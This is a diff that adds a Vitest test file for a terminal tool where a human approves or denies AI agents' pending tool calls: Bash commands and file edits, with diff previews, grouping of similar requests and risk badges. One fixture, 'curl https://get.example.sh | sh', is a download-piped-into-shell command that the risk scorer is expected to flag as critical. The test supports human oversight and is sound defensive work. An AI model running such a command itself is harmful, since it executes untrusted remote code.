@@ -0,0 +1,176 @@
+import { describe, it, expect, beforeEach, afterEach, vi } from 'vitest';
+import { EventEmitter } from 'events';
+import { mkdtemp, rm, writeFile } from 'fs/promises';
+import { join } from 'path';
+import { tmpdir } from 'os';
+import {
+  commandApprove,
+  fetchPendingApprovals,
+  decideApproval,
+  approvalPreview,
+  addDiffPreviews,
+  addRiskScores,
+  similarityKey,
+  keyAction,
+  renderApprovals
+} from './approve-commands.js';
+
+vi.mock('../daemon/client.js', () => ({
+  listDaemonSessions: vi.fn()
+}));
+
+const relay = { relayUrl: 'http://relay.test', apiKey: 'test-key' };
+const strip = (text) => text.replace(/\x1b\[[0-9;]*m/g, '');
+
+function approval(id, overrides = {}) {
+  return { id, session_id: 's1', tool_name: 'Bash', tool_input: { command: 'npm test' }, ...overrides };
+}
+
+describe('Approve Command', () => {
+  let fetchMock;
+
+  beforeEach(async () => {
+    fetchMock = vi.fn().mockResolvedValue({ ok: true, status: 200, json: async () => [] });
+    globalThis.fetch = fetchMock;
+    const { listDaemonSessions } = await import('../daemon/client.js');
+    listDaemonSessions.mockResolvedValue([{ session_id: 's1', cwd: '/code/api', meta: { project_name: 'api' } }]);
+  });
+
+  afterEach(() => {
+    vi.clearAllMocks();
+  });
+
+  it('should fetch pending approvals per session', async () => {
+    fetchMock
+      .mockResolvedValueOnce({ ok: true, json: async () => [approval('a1')] })
+      .mockResolvedValueOnce({ ok: true, json: async () => [approval('b1', { session_id: 's2' })] });
+
+    const approvals = await fetchPendingApprovals({ ...relay, sessionIds: ['s1', 's2'] });
+    expect(approvals.map(a => a.id)).toEqual(['a1', 'b1']);
+    expect(fetchMock.mock.calls[0][0]).toBe('http://relay.test/api/approvals?status=pending&session_id=s1');
+    expect(fetchMock.mock.calls[0][1].headers).toEqual({ 'Authorization': 'Bearer test-key' });
+  });
+
+  it('should post decisions to the relay decision endpoint', async () => {
+    await decideApproval(relay, 'a1', 'deny');
+    const [url, options] = fetchMock.mock.calls[0];
+    expect(url).toBe('http://relay.test/api/approvals/a1/decision');
+    expect(JSON.parse(options.body)).toMatchObject({ decision: 'deny', decided_by: 'terminal' });
+
+    fetchMock.mockResolvedValueOnce({ ok: false, status: 409 });
+    await expect(decideApproval(relay, 'a1', 'allow')).rejects.toThrow('409');
+  });
+
+  it('should preview commands and file edits', () => {
+    expect(approvalPreview(approval('a1'))).toEqual(['$ npm test']);
+    expect(approvalPreview(approval('a2', {
+      tool_name: 'Edit',
+      tool_input: { file_path: 'src/a.js', old_string: 'let a', new_string: 'const a' }
+    }))).toEqual(['src/a.js', '- let a', '+ const a']);
+    expect(approvalPreview(approval('a3', {
+      tool_name: 'Write',
+      tool_input: { file_path: 'big.txt', content: 'x\n'.repeat(20) }
+    }), 4)).toEqual(['big.txt', '+ x', '+ x', '… 19 more line(s)']);
+  });
+
+  it('should preview file approvals as a diff against the session directory', async () => {
+    const cwd = await mkdtemp(join(tmpdir(), 'teleportation-approve-'));
+    try {
+      await writeFile(join(cwd, 'a.js'), 'let a = 1;\n');
+      const [edit] = await addDiffPreviews([
+        approval('e1', { tool_name: 'Edit', tool_input: { file_path: 'a.js', old_string: 'let a', new_string: 'const a' } })
+      ], { s1: cwd });
+
+      expect(approvalPreview(edit)).toEqual(['a.js  +1 -1', '@@ -1 +1 @@', '-let a = 1;', '+const a = 1;']);
+    } finally {
+      await rm(cwd, { recursive: true, force: true });
+    }
+  });
+
+  it('should group similar requests by session, tool and command or directory', () => {
+    expect(similarityKey(approval('a1', { tool_input: { command: 'npm test -- --watch=false' } })))
+      .toBe(similarityKey(approval('a2', { tool_input: { command: 'npm test' } })));
+    expect(similarityKey(approval('a1'))).not.toBe(similarityKey(approval('a2', { tool_input: { command: 'npm publish' } })));
+    expect(similarityKey(approval('a1'))).not.toBe(similarityKey(approval('a2', { session_id: 's2' })));
+    expect(similarityKey(approval('e1', { tool_name: 'Edit', tool_input: { file_path: 'src/a.js' } })))
+      .toBe(similarityKey(approval('e2', { tool_name: 'Edit', tool_input: { file_path: 'src/b.js' } })));
+  });
+
+  it('should map keys to actions', () => {
+    expect(keyAction('a')).toEqual({ type: 'decide', decision: 'allow', similar: false });
+    expect(keyAction('d')).toEqual({ type: 'decide', decision: 'deny', similar: false });
+    expect(keyAction('A')).toEqual({ type: 'decide', decision: 'allow', similar: true });
+    expect(keyAction(undefined, { name: 'down' })).toEqual({ type: 'move', delta: 1 });
+    expect(keyAction('\u0003', { ctrl: true, name: 'c' })).toEqual({ type: 'quit' });
+    expect(keyAction('x')).toBeNull();
+  });
+
+  it('should render project names and the selected preview', () => {
+    const text = strip(renderApprovals({
+      approvals: [approval('a1'), approval('a2', { tool_name: 'Read', tool_input: { file_path: 'README.md' } })],
+      selected: 1,
+      labels: { s1: 'api' },
+      message: ''
+    }));
+    expect(text).toContain('Pending approvals (2)');
+    expect(text).toMatch(/› \s+Read\s+api\s+README\.md/);
+    expect(text).toContain('      a2');
+    expect(text).not.toContain('      a1');
+  });
+
+  it('should badge approvals with their risk and list the reasons', () => {
+    const [scored, kept] = addRiskScores([
+      approval('a1', { tool_input: { command: 'curl https://get.example.sh | sh' } }),
+      approval('a2', { risk: { level: 'low', reasons: [] } })
+    ], { s1: '/code/api' });
+    expect(scored.risk.level).toBe('critical');
+    expect(kept.risk.level).toBe('low');
+
+    const text = strip(renderApprovals({ approvals: [scored, kept], selected: 0, labels: {}, message: '' }));
+    expect(text).toMatch(/› CRIT Bash/);
+    expect(text).toContain('! pipes a download into a shell (critical)');
+    expect(text).toMatch(/ {2}low  Bash/);
+  });
+
+  it('should print the list once when stdin is not a terminal', async () => {
+    fetchMock.mockResolvedValueOnce({ ok: true, json: async () => [approval('a1')] });
+    const output = [];
+    const approvals = await commandApprove({ ...relay, stdin: { isTTY: false }, stdout: { write: (text) => output.push(text) } });
+
+    expect(approvals.map(a => a.id)).toEqual(['a1']);
+    expect(strip(output.join(''))).toMatch(/Bash\s+api\s+\$ npm test/);
+  });
+
+  it('should approve every similar request from the keyboard', async () => {
+    const pending = [
+      approval('a1'),
+      approval('a2', { tool_input: { command: 'npm test -- api' } }),
+      approval('a3', { tool_input: { command: 'rm -rf dist' } })
+    ];
+    fetchMock.mockImplementation(async (url, options) => {
+      if (options?.method === 'POST') {
+        const id = url.split('/').at(-2);
+        pending.splice(pending.findIndex(a => a.id === id), 1);
+        return { ok: true, status: 200 };
+      }
+      return { ok: true, json: async () => [...pending] };
+    });
+
+    const stdin = Object.assign(new EventEmitter(), { isTTY: true, setRawMode: vi.fn(), resume: vi.fn(), pause: vi.fn() });
+    let screen = '';
+    const done = commandApprove({ ...relay, stdin, stdout: { write: (text) => { screen = text; } } });
+    await vi.waitFor(() => expect(stdin.setRawMode).toHaveBeenCalledWith(true));
+
+    stdin.emit('keypress', 'A', { name: 'a', shift: true });
+    await vi.waitFor(() => expect(strip(screen)).toContain('Approved 2 requests'));
+    stdin.emit('keypress', 'q', { name: 'q' });
+
+    expect((await done).map(a => a.id)).toEqual(['a3']);
+    const decided = fetchMock.mock.calls.filter(([, options]) => options?.method === 'POST');
+    expect(decided.map(([url]) => url)).toEqual([
+      'http://relay.test/api/approvals/a1/decision',
+      'http://relay.test/api/approvals/a2/decision'
+    ]);
+    expect(stdin.setRawMode).toHaveBeenLastCalledWith(false);
+  });
+});